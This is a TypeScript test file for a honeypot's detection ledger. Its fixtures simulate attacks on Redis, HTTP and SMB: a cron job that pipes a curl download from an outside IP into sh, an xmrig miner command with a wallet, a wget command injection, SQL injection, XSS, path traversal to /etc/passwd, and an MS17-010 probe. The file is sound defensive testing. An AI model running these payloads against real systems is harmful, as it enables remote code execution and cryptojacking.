import { expect, test } from 'vitest';
import { loadKnowledge } from '../cli/knowledge.ts';
import { createDetector } from '../detect/detector.ts';
import type { Act } from '../model/act.ts';
import type { Vantage } from '../model/event.ts';
import { createLedger } from './ledger.ts';

/** A day with visitors at two doors, under the shipped rules. */
function day() {
  const { rules, campaigns } = loadKnowledge();
  const detector = createDetector(rules);
  const ledger = createLedger({ campaigns });
  let at = 0;
  const visit = (vantage: Vantage, session: string, address: string, acts: readonly Act[]): void => {
    for (const act of acts) {
      at++;
      const event = {
        id: `e-${at}`,
        time: at * 1_000,
        vantage,
        sensor: 's',
        session,
        peer: { address, port: 1 },
        act,
      };
      const { findings, held } = detector.observe(event);
      ledger.observe(event, findings, held);
    }
  };
  return { ledger, visit };
}
const opened = (protocol: 'redis' | 'http'): Act => ({
  type: 'session.opened',
  protocol,
  local: { address: '192.0.2.1', port: 80 },
});
const get = (target: string): Act => ({
  type: 'http.request',
  method: 'GET',
  target,
  version: '1.1',
  headers: [],
  body: '',
  status: 404,
});
const CRON: Act = {
  type: 'redis.value',
  db: 0,
  key: 'backup1',
  kind: 'string',
  value: '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n',
};

test('the table of web attacks counts requests by class, and who attacks Redis as well', () => {
  const { ledger, visit } = day();
  visit('sensor', 'a', '198.51.100.1', [opened('redis'), CRON]);
  visit('sensor', 'b', '198.51.100.1', [
    opened('http'),
    get("/?id=1'+union+select+1,2--"),
    get('/?q=<script>alert(1)</script>'),
    get('/'),
  ]);
  visit('sensor', 'c', '198.51.100.2', [opened('http'), get("/?id=1'+or+'1'='1")]);
  visit('sensor', 'd', '198.51.100.3', [
    opened('http'),
    ...Array.from({ length: 20 }, (_, n) => get(`/page${n}`)),
  ]);
  visit('import', 'e', '198.51.100.4', [opened('http'), get('/../../etc/passwd')]);

  const { web, webLogs, ...sensors } = ledger.study(0, 1_000_000);

  expect(web).toMatchObject({ requests: 24, attacks: 3, attackers: 2, scanners: 1, miners: 0 });
  expect(web?.classes.map(({ class: name, requests, sources }) => [name, requests, sources])).toEqual([
    ['sql-injection', 2, 2],
    ['xss', 1, 1],
  ]);
  expect(web?.alsoRedis).toMatchObject({ count: 1, of: 2, share: 0.5 });
  expect(webLogs).toMatchObject({ requests: 1, attacks: 1, attackers: 1 });
  expect(sensors).toMatchObject({ sources: 3, sessions: 4, attackers: 2 });
});

test('there is no such table where nobody came to an HTTP door', () => {
  const { ledger, visit } = day();
  visit('sensor', 'a', '198.51.100.1', [opened('redis'), CRON]);

  expect(ledger.study(0, 1_000_000)).toMatchObject({ web: null, webLogs: null });
});

test('one wallet in Redis and in a request makes one campaign', () => {
  const wallet =
    '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
  const { ledger, visit } = day();
  const line = `/tmp/xmrig -o stratum+tcp://pool.example.invalid:3333 -u ${wallet} -p x`;
  visit('sensor', 'a', '198.51.100.1', [opened('redis'), { ...CRON, value: `nohup ${line} &` }]);
  visit('sensor', 'b', '198.51.100.9', [
    opened('http'),
    get(`/?cmd=${encodeURIComponent(`wget http://203.0.113.9/x;${line}`)}`),
  ]);

  const campaigns = ledger.campaigns().filter(({ sessions }) => sessions.includes('a'));

  expect(campaigns.map(({ sessions }) => sessions.toSorted())).toEqual([['a', 'b']]);
});

test('an address that plants jobs in Redis and then looks for MS17-010 is told, whatever its sessions are', () => {
  const { ledger, visit } = day();
  visit('sensor', 'a', '198.51.100.1', [opened('redis'), CRON]);
  const probe: Act = {
    type: 'smb.command',
    name: 'transaction',
    subcommand: 'peek-named-pipe',
    status: 'STATUS_INSUFF_SERVER_RESOURCES',
    path: '\\PIPE\\',
    bytes: 7,
  };
  visit('sensor', 'b', '198.51.100.2', [probe]);
  visit('sensor', 'c', '198.51.100.1', [probe]);

  const found = ledger.findings().filter(({ rule }) => rule.startsWith('worm.'));

  expect(found.map(({ rule, session, peer }) => [rule, session, peer.address])).toEqual([
    ['worm.redis-then-smb', 'c', '198.51.100.1'],
  ]);
});
